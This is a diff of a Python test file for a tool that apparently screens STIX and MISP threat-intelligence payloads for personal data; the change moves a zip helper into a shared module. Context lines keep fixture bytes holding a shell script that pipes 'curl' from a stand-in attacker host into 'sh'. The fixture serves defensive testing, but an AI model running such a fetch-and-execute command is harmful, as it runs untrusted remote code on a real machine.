@@ -6,16 +6,14 @@ TLP tags. Each kind is tried in STIX and MISP where both can carry it."""
 from __future__ import annotations
 
 import base64
-import io
 import json
 import uuid
-import zipfile
 
 import pytest
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
-from gate_util import TS, bundle, envelope, indicator, misp_doc, misp_event, raw, run, statement
+from gate_util import TS, bundle, envelope, indicator, misp_doc, misp_event, raw, run, statement, zip_of
 from wivcheck.engine import Engine, load_library
 from wivcheck.engine.gate import PayloadError, read_misp, read_stix
 from wivcheck.engine.gate.items import PERSONAL, POSSIBLE, UNKNOWN
@@ -197,12 +195,7 @@ SCRIPT = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
 SCRIPT_WITH_MAIL = b"#!/bin/sh\n# contact jan.jansen@corp.example\ncurl -s http://evil.example/x | sh\n"
 
 
-def _zip(entries: dict[str, bytes]) -> bytes:
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w") as z:
-        for name, data in entries.items():
-            z.writestr(name, data)
-    return buf.getvalue()
+_zip = zip_of
 
 
 CONTENTS = {
